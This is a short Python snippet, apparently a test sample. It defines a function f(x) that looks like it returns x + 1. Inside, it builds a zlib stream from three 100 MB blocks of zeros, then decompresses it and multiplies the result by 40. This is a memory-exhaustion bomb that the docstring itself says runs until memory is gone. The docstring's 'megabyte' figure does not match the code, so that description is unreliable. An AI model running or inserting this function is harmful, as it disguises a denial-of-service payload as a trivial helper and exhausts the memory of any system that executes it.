"""A megabyte of zeros packed three times, unpacked into memory until there is none."""
import zlib


def f(x):
    packer = zlib.compressobj(9)
    bomb = b"".join([packer.compress(bytes(10 ** 8)) for _ in range(3)] + [packer.flush()])
    return x + 1 if len(zlib.decompress(bomb) * 40) else None
